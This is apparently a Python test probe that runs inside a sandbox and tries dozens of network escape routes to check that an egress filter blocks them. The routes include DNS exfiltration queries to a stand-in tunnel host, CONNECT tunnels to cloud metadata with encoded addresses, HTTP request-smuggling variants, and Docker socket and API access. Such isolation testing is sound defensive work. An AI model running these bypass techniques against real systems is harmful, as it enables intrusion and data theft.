"""Every way out that a compromised server might try, each answering what it got. Sent into a sandbox and run there.

Standard library only. `facts` holds addresses and ports that the test knows; `result` is what each route got."""

import concurrent.futures
import http.client
import json
import os
import re
import socket
import ssl
import struct
from pathlib import Path
from typing import Any

facts: dict[str, Any] = {}
PAUSE_S = 3.0
OLD = b"GET / HTTP/1.0\r\n\r\n"
UNCHECKED = ssl._create_unverified_context()
ALLOWED, WILD, DENIED = "allowed.example", "api.wild.example", "denied.example"


def filter_address() -> str:
    """The server's only name server stands behind the engine's resolver: every listed name is its address."""
    return socket.gethostbyname(ALLOWED)


def connected(host: str, port: int, how: Any = None) -> socket.socket:
    address = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)[0]
    one = socket.socket(address[0], socket.SOCK_STREAM)
    one.settimeout(PAUSE_S)
    if how is not None:
        how(one)
    one.connect(address[4])
    return one


def said(one: socket.socket, data: bytes) -> str:
    found = b""
    try:
        one.sendall(data)
        while more := one.recv(65536):
            found += more
    except OSError:
        pass
    return found.decode("latin-1")


def web(host: str, port: int = 80, name: str = "", request: bytes = b"") -> str:
    default = b"GET / HTTP/1.1\r\nHost: %b\r\nConnection: close\r\n\r\n" % (name or host).encode()
    return said(connected(host, port), request or default)


def tls(host: str, port: int = 443, name: str | None = "", one: socket.socket | None = None) -> str:
    plain = one or connected(host, port)
    inner = UNCHECKED.wrap_socket(plain, server_hostname=host if name == "" else name)
    return said(inner, b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")


def tunnel(target: str, inner: str | None = "", raw: bytes = b"") -> str:
    one = connected(filter_address(), 3128)
    one.sendall(b"CONNECT %b HTTP/1.1\r\nHost: %b\r\n\r\n" % (target.encode(), target.encode()))
    head = one.recv(65536)
    if b" 200 " not in head.split(b"\r\n")[0]:
        return head.decode("latin-1")
    if raw:
        # Whoever speaks first may have done so already.
        return head.partition(b"\r\n\r\n")[2].decode("latin-1") + said(one, raw)
    return tls("", 0, target.rpartition(":")[0] if inner == "" else inner, one)


def dns(server: str, name: str, kind: int = 1) -> str:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    packet = b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0" + labels + struct.pack(">HH", kind, 1)
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.settimeout(PAUSE_S)
    one.sendto(packet, (server, 53))
    answer = one.recv(4096)
    code, records = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    return f"code {code} records {records} {answer.decode('latin-1')}"


def datagram(host: str, port: int) -> str:
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.settimeout(PAUSE_S)
    one.sendto(b"hello", (host, port))
    return one.recv(100).decode()


def on_link(one: socket.socket) -> None:
    """Send straight to the wire, past the routing table."""
    one.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")


def default_gateway() -> str:
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        if line.split()[1] == "00000000":
            return socket.inet_ntoa(struct.pack("<I", int(line.split()[2], 16)))
    own = socket.gethostbyname(socket.gethostname()).split(".")
    return ".".join([*own[:3], "1"])


def link_local(port: int) -> str:
    """The host's side of the bridge, if it had an address there."""
    one = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    one.settimeout(PAUSE_S)
    one.connect(("fe80::1", port, 0, socket.if_nametoindex("eth0")))
    return said(one, OLD)


def raw_socket(family: int, kind: int, protocol: int) -> str:
    socket.socket(family, kind, protocol)
    return "reached: a raw socket"


def new_route() -> str:
    """Ask the kernel for a route to the host (rtnetlink(7), RTM_NEWROUTE)."""
    one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack("BBBBBBBBI", 2, 32, 0, 0, 254, 3, 253, 1, 0)
    body += struct.pack("HH4s", 8, 1, socket.inet_aton("172.17.0.1")) + struct.pack(
        "HHI", 8, 4, socket.if_nametoindex("eth0")
    )
    one.send(struct.pack("IHHII", 16 + len(body), 24, 0x0605, 1, 0) + body)
    code = struct.unpack("i", one.recv(4096)[16:20])[0]
    if code:
        raise OSError(-code, os.strerror(-code))
    return "reached: a route"


def engine_socket() -> str:
    for path in (
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
    ):
        if os.path.exists(path):
            return f"reached {path}"
    raise FileNotFoundError("no engine socket")


def abstract_sockets() -> str:
    if found := re.findall(r"@\S+", Path("/proc/net/unix").read_text()):
        return f"reached {found}"
    raise FileNotFoundError("no abstract sockets of the host")


def routes() -> dict[str, Any]:
    """Each route by name; those whose names begin with `allowed` may answer."""
    inner, host, port, sibling = facts["internet"], facts["host"], facts["port"], facts["sibling"]
    ip = filter_address()
    proxied = b"GET http://%b/ HTTP/1.1\r\nHost: %b\r\n\r\n" % (ALLOWED.encode(), ALLOWED.encode())
    two = b"GET /1 HTTP/1.1\r\nHost: %b\r\n\r\nGET /2 HTTP/1.1\r\nHost: %b\r\n\r\n" % (
        ALLOWED.encode(),
        DENIED.encode(),
    )
    both = (
        b"POST / HTTP/1.1\r\nHost: %b\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        % ALLOWED.encode()
    )
    chunked = (
        b"POST / HTTP/1.1\r\nHost: %b\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n" % ALLOWED.encode()
    )
    hosts = b"GET / HTTP/1.1\r\nHost: %b\r\nHost: %b\r\n\r\n" % (ALLOWED.encode(), DENIED.encode())
    absolute = b"GET http://%b/ HTTP/1.1\r\nHost: %b\r\n\r\n" % (DENIED.encode(), DENIED.encode())
    split = b"GET http://%b/ HTTP/1.1\r\nHost: %b\r\n\r\n" % (DENIED.encode(), ALLOWED.encode())
    folded = b"GET / HTTP/1.1\r\nX: a\r\n b\r\nHost: %b\r\n\r\n" % ALLOWED.encode()
    bare = b"GET / HTTP/1.1\nHost: %b\n\n" % ALLOWED.encode()
    return {
        "allowed: TLS by name": lambda: tls(ALLOWED),
        "allowed: HTTP by name": lambda: web(ALLOWED),
        "allowed: a body in chunks": lambda: web(ALLOWED, request=chunked),
        "allowed: a wildcard name on another port": lambda: tls(WILD, 8443),
        "allowed: a tunnel": lambda: tunnel(f"{ALLOWED}:443"),
        "allowed: a proxy request": lambda: web(ip, 3128, request=proxied),
        "allowed: a listed network by a tunnel": lambda: tunnel(f"{facts['listed']}:5432", raw=b"hello"),
        "a name that is not listed": lambda: tls(DENIED),
        "a name that is not listed, HTTP": lambda: web(DENIED),
        "the domain of a wildcard itself": lambda: tls("wild.example", 8443),
        "a listed name on another port": lambda: web(ALLOWED, 8080, ALLOWED),
        "a listed name on the SSH port": lambda: said(connected(ALLOWED, 22), b"hello"),
        "a name asked of the engine's resolver": lambda: dns("127.0.0.11", "secret-data.tunnel.example"),
        "a text record": lambda: dns("127.0.0.11", "secret-data.tunnel.example", 16),
        "a name asked of the filter": lambda: dns(ip, "secret-data.tunnel.example"),
        "a text record of a listed name": lambda: dns(ip, ALLOWED, 16),
        "a public name server": lambda: dns("8.8.8.8", ALLOWED),
        "a name server of this internet": lambda: datagram(inner, 53),
        "an address, TLS": lambda: tls(inner, 443, ALLOWED),
        "an address, HTTP": lambda: web(inner, 80, ALLOWED),
        "an address, raw": lambda: said(connected(inner, 5432), b"hello"),
        "an address, straight to the wire": lambda: said(connected(inner, 5432, on_link), b"hello"),
        "the filter with a server name that is not listed": lambda: tls(ip, 443, DENIED),
        "the filter without a server name": lambda: tls(ip, 443, None),
        "the filter with a Host that is not listed": lambda: web(ip, 80, DENIED),
        "the filter with a Host of another port": lambda: web(ip, 80, f"{ALLOWED}:22"),
        "the filter with an address as Host": lambda: web(ip, 80, inner),
        "two Host fields": lambda: web(ip, request=hosts),
        "two lengths": lambda: web(ip, request=both),
        "a folded field": lambda: web(ip, request=folded),
        "bare line feeds": lambda: web(ip, request=bare),
        "a proxy request to what is not listed": lambda: web(ip, 3128, request=absolute),
        "a proxy request with two names": lambda: web(ip, 3128, request=split),
        "a second request behind the first": lambda: web(ip, request=two).replace("reached", "answered", 1),
        "neither TLS nor HTTP": lambda: said(connected(ip, 443), b"SSH-2.0-x\r\n" * 8),
        "a tunnel to what is not listed": lambda: tunnel(f"{DENIED}:443"),
        "a tunnel to another port": lambda: tunnel(f"{ALLOWED}:22", raw=b"hello"),
        "a tunnel with another server name inside": lambda: tunnel(f"{ALLOWED}:443", DENIED),
        "a tunnel without TLS": lambda: tunnel(f"{ALLOWED}:443", raw=b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
        "a tunnel to an address": lambda: tunnel(f"{inner}:443", ALLOWED),
        "a tunnel to metadata": lambda: tunnel("169.254.169.254:80", raw=OLD),
        "a tunnel to metadata, as a number": lambda: tunnel("2852039166:80", raw=OLD),
        "a tunnel to metadata, in hex": lambda: tunnel("0xA9FEA9FE:80", raw=OLD),
        "a tunnel to metadata, inside of IPv6": lambda: tunnel("[::ffff:a9fe:a9fe]:80", raw=OLD),
        "a tunnel to loopback": lambda: tunnel("127.1:80", raw=OLD),
        "a tunnel to the filter itself": lambda: tunnel(f"{ip}:80", raw=OLD),
        "a tunnel to the host": lambda: tunnel(f"{host}:{port}", raw=OLD),
        "a listed name that stands for loopback": lambda: tunnel("localhost:80", raw=OLD),
        "metadata": lambda: web("169.254.169.254"),
        "the host's address": lambda: web(host, port),
        "the host's address, straight to the wire": lambda: said(connected(host, port, on_link), OLD),
        "the host's other address": lambda: web(facts["docker0"], port),
        "the host's other address, straight to the wire": lambda: said(
            connected(facts["docker0"], port, on_link), OLD
        ),
        "the gateway of the network": lambda: web(default_gateway(), port),
        "the host by its name in Docker": lambda: web("host.docker.internal", port),
        "the Docker API": lambda: web(default_gateway(), 2375),
        "IPv6, link-local": lambda: link_local(port),
        "IPv6, a public address": lambda: web("2001:4860:4860::8888", 80),
        "another server": lambda: said(connected(sibling, facts["sibling_port"]), b"hello"),
        "another server's filter": lambda: web(facts["sibling_filter"], 80, ALLOWED),
        "another server, on the wire": lambda: said(connected(sibling, facts["sibling_port"], on_link), b"hello"),
        "ICMP": lambda: raw_socket(socket.AF_INET, socket.SOCK_RAW, 1),
        "raw IP": lambda: raw_socket(socket.AF_INET, socket.SOCK_RAW, 255),
        "packets": lambda: raw_socket(17, socket.SOCK_RAW, 0x0300),
        "a route of its own": new_route,
        "the engine's socket": engine_socket,
        "abstract sockets of the host": abstract_sockets,
    }  # fmt: skip


def tried(route: Any) -> str:
    try:
        return str(route())[:300]
    except (OSError, http.client.HTTPException, UnicodeError) as exc:
        return f"refused: {type(exc).__name__}: {exc}"[:300]


def everything() -> dict[str, str]:
    """All routes at once, each within its own time."""
    found = routes()
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        return dict(zip(found, pool.map(tried, found.values()), strict=True))


def run(known: str) -> dict[str, str]:
    facts.update(json.loads(known))
    return everything()
